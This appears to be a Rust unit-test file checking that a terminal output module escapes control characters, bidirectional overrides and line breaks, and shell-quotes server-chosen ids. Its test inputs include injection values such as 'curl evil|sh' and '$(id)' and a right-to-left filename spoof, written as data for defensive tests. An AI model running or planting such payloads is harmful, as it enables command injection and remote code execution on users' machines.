//! Unit tests of `paint.rs`.
use super::*;

#[test]
fn control_characters_are_shown_not_obeyed() {
    assert_eq!(inert("plain Zürich"), "plain Zürich");
    assert_eq!(
        inert("a\u{1b}[2Jb\rc\u{9b}31md\u{7f}"),
        "a\\u{1b}[2Jb\\u{d}c\\u{9b}31md\\u{7f}"
    );
}

#[test]
fn styles_wrap_text_only_when_on() {
    let mut plain = String::new();
    push(&mut plain, KEY, "id", false);
    assert_eq!(plain, "id");
    let mut coloured = String::new();
    push(&mut coloured, HEADING, "ID", true);
    assert_eq!(coloured, "\u{1b}[1mID\u{1b}[0m");
}

#[test]
fn bidirectional_overrides_are_shown_not_obeyed() {
    // A right-to-left override would show "gnp.exe" as "exe.png".
    assert_eq!(inert("file \u{202e}gnp.exe"), "file \\u{202e}gnp.exe");
    for c in [
        '\u{061c}', '\u{200e}', '\u{200f}', '\u{202a}', '\u{2066}', '\u{2069}',
    ] {
        assert!(steers(c), "{c:?}");
    }
    assert!(!steers('é') && !steers('\u{200b}'));
}

#[test]
fn every_line_break_is_shown_not_obeyed() {
    assert_eq!(
        inert("a\nb\r\nc\u{85}d\u{2028}e\u{2029}f"),
        "a\\u{a}b\\u{d}\\u{a}c\\u{85}d\\u{2028}e\\u{2029}f"
    );
}

#[test]
fn a_server_chosen_id_is_one_shell_word() {
    assert_eq!(shell_word("u_1.a-B"), "u_1.a-B");
    assert_eq!(shell_word("u_1; curl evil|sh #"), "'u_1; curl evil|sh #'");
    assert_eq!(shell_word("it's"), r"'it'\''s'");
    assert_eq!(shell_word(""), "''");
    assert_eq!(shell_word("$(id)"), "'$(id)'");
}
